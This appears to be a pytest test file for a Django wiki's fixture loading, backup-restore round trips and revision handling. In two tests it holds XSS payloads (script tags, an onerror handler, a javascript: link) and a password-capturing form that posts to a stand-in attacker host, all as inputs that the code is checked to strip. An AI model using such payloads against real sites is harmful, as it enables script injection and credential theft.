"""loaddata on an empty database gives the whole page; dump, flush and load give it again."""

import json
from io import StringIO

import pytest
from django.conf import settings
from django.core.management import call_command

from articles.models import Article

pytestmark = pytest.mark.django_db(transaction=True)

SEED_URL = "/wiki/西伯利亞滯留者"


def page(client):
    from django.core.cache import cache

    cache.clear()
    response = client.get(SEED_URL)
    assert response.status_code == 200
    return response.content.decode()


def test_loaddata_gives_the_full_page(client):
    call_command("loaddata", "siberia", verbosity=0)
    body = page(client)
    assert '<sup class="reference" id="cite_ref-4"><a href="#cite_note-4">[4]</a></sup>' in body
    assert '<li id="cite_note-4">' in body
    assert body.count('<nav class="catlinks"') == 1
    assert Article.objects.get().related_entries.count() == 5
    assert not Article.objects.derived_before().exists()


def _dump_flush_load(tmp_path, *labels):
    """What an operator's backup and restore do: dumpdata with natural keys, an emptied database, loaddata."""
    dump = tmp_path / "dump.json"
    call_command("dumpdata", *labels, natural_foreign=True, natural_primary=True, output=str(dump), verbosity=0)
    call_command("flush", interactive=False, verbosity=0)
    assert not Article.objects.exists()
    call_command("loaddata", str(dump), verbosity=0)


def test_dump_flush_load_round_trip(client, tmp_path):
    call_command("loaddata", "siberia", verbosity=0)
    before = page(client)
    _dump_flush_load(tmp_path, "articles", "references")
    assert page(client) == before


def _fixture():
    return json.loads(settings.SEED_FIXTURE.read_text(encoding="utf-8"))


def _load(tmp_path, rows, name="fixture.json"):
    path = tmp_path / name
    path.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
    call_command("loaddata", str(path), verbosity=0, stdout=StringIO())


def test_loading_makes_a_fixture_revision_once(client):
    call_command("loaddata", "siberia", verbosity=0)
    call_command("loaddata", "siberia", verbosity=0)
    article = Article.objects.get()
    assert list(article.revisions.values_list("number", "kind", "author", "summary", "parent")) == [
        (1, "fixture", "fixture", "载入 fixtures/siberia.json", None)
    ]
    assert article.current_revision.text == settings.SEED_PAGE.read_text(encoding="utf-8")


def test_a_fixture_cannot_rewrite_a_revision(tmp_path):
    call_command("loaddata", "siberia", verbosity=0)
    rows = _fixture()
    rows[1]["fields"]["text"] = "改寫的歷史"
    with pytest.raises(Exception, match="revision 1 of 西伯利亞滯留者 exists with another text"):
        _load(tmp_path, rows)
    assert Article.objects.get().current_revision.text.startswith("**西伯利亞滯留者**")


def test_a_later_revision_in_a_fixture_becomes_current(client, tmp_path):
    call_command("loaddata", "siberia", verbosity=0)
    rows = _fixture()
    rows[1]["fields"] |= {"number": 2, "text": rows[1]["fields"]["text"].replace("值得一提的是", "需要指出的是")}
    _load(tmp_path, rows)
    article = Article.objects.get()
    current = article.current_revision
    assert (current.number, current.kind, current.parent.number) == (2, "fixture", 1)
    assert current.size_change == len("需要指出的是".encode()) - len("值得一提的是".encode())
    assert "需要指出的是" in page(client)


def test_fixture_html_is_never_trusted(client, tmp_path):
    rows = _fixture()
    rows[0]["fields"]["lead_html"] = "<script>alert(1)</script>"
    rows[1]["fields"]["text"] += '\n\n<img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a>'
    rows.append(
        {
            "model": "articles.section",
            "fields": {"article": ["西伯利亞滯留者"], "order": 9, "heading": "x", "anchor": "x", "html": "<script>"},
        }
    )
    _load(tmp_path, rows)
    body = page(client)
    assert "<script>alert" not in body and "onerror" not in body and "javascript:" not in body
    assert not Article.objects.get().sections.filter(order=9).exists()  # rows are derived from the text


def test_fixture_html_never_stays_even_when_an_article_cannot_be_rendered(client, tmp_path, monkeypatch):
    from references.models import Reference
    from wikitext.derivation import DERIVATION_VERSION

    rows = _fixture()
    rows[0]["fields"]["derived_with"] = DERIVATION_VERSION  # a claim render_articles must not believe
    rows.append(
        {
            "model": "references.reference",
            "fields": {
                "article": ["西伯利亞滯留者"],
                "number": 1,
                "html": '<form action="//evil.example"><input name="password"></form>',
            },
        }
    )

    def fail(self):
        raise RuntimeError("cannot render")

    monkeypatch.setattr(Article, "render", fail)
    _load(tmp_path, rows)
    assert set(Reference.objects.values_list("html", flat=True)) == {""}
    assert list(Article.objects.derived_before().values_list("title", flat=True)) == ["西伯利亞滯留者"]


def test_sections_loaded_alone_leave_their_article_to_render_articles_when_its_render_fails(tmp_path, monkeypatch):
    call_command("loaddata", "siberia", verbosity=0)
    assert not Article.objects.derived_before().exists()
    dump = tmp_path / "sections.json"
    call_command("dumpdata", "articles.section", natural_foreign=True, output=str(dump), verbosity=0)

    def fail(self):
        raise RuntimeError("cannot render")

    monkeypatch.setattr(Article, "render", fail)
    call_command("loaddata", str(dump), verbosity=0, stdout=StringIO())
    assert list(Article.objects.derived_before().values_list("title", flat=True)) == ["西伯利亞滯留者"]


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "not a page: the file is empty"),
        ("\x00甲", "the text holds NUL characters"),
        ('[Category:X](https://zh.wikipedia.org/wiki/Category:X "wikilink")', "not a page: the page has no text"),
    ],
)
def test_a_fixture_revision_that_is_no_page_stops_the_load(client, tmp_path, text, reason):
    call_command("loaddata", "siberia", verbosity=0)
    before = page(client)
    rows = _fixture()
    rows[1]["fields"] |= {"number": 2, "text": text}
    with pytest.raises(Exception, match=f"revision 2 of 西伯利亞滯留者 in the fixture: {reason}"):
        _load(tmp_path, rows)
    assert page(client) == before
    assert Article.objects.get().revisions.count() == 1


def test_loading_again_keeps_the_pages_own_facts(client, tmp_path):
    call_command("loaddata", "siberia", verbosity=0)
    article = Article.objects.get()
    article.render()
    article.render()
    fields = ("title_key", "version", "created_at", "current_revision")
    before = Article.objects.values(*fields).get()
    call_command("loaddata", "siberia", verbosity=0)
    after = Article.objects.values(*fields).get()
    # The load renders the page again: its version goes on from where it was, never back to 1.
    assert after["version"] > before["version"]
    assert {k: after[k] for k in fields if k != "version"} == {k: before[k] for k in fields if k != "version"}


def test_revisions_loaded_out_of_order_are_chained_by_number(tmp_path):
    rows = _fixture()
    text = rows[1]["fields"]["text"]
    later = {"model": "articles.revision", "fields": {**rows[1]["fields"], "number": 3, "text": "第三版。\n\n" + text}}
    middle = {"model": "articles.revision", "fields": {**rows[1]["fields"], "number": 2, "text": "第二版。\n\n" + text}}
    _load(tmp_path, [rows[0], later, rows[1], middle])
    chain = list(Article.objects.get().revisions.order_by("number").values_list("number", "parent__number"))
    assert chain == [(1, None), (2, 1), (3, 2)]
    assert Article.objects.get().current_revision.number == 3


def test_a_dump_loaded_into_an_empty_database_remembers_the_imported_file(tmp_path):
    from articles.importer.writer import UPDATED, import_page
    from wikitext.parsing import parse_page

    import_page(parse_page("一", "頁"), "一")
    dump = tmp_path / "dump.json"
    call_command("dumpdata", "articles", natural_foreign=True, natural_primary=True, output=str(dump), verbosity=0)
    call_command("flush", interactive=False, verbosity=0)
    call_command("loaddata", str(dump), verbosity=0)
    assert import_page(parse_page("二", "頁"), "二").status == UPDATED  # not "kept as edited"


def test_a_backup_with_its_users_restores_every_revision(tmp_path):
    from django.contrib.auth import get_user_model

    from articles.models import Revision

    call_command("loaddata", "siberia", verbosity=0)
    editor = get_user_model().objects.create_user("編者")
    article = Article.objects.get()
    article.commit("新導言。\n\n" + article.current_revision.text, kind=Revision.EDIT, author="編者", user=editor)
    fields = ("article__title", "number", "kind", "author", "user__username", "summary", "text", "timestamp")

    def rows():
        # Django's JSON keeps times to the millisecond.
        return [
            (*row[:-1], row[-1].replace(microsecond=row[-1].microsecond // 1000 * 1000))
            for row in Revision.objects.order_by("number").values_list(*fields)
        ]

    before = rows()
    _dump_flush_load(tmp_path, "auth.user", "articles", "references")
    after = rows()
    # Users are not trusted from a fixture: the author's name stays, the link to the account goes.
    assert [row[:4] + row[5:] for row in after] == [row[:4] + row[5:] for row in before]
    assert Article.objects.get().current_revision.text.startswith("新導言。")
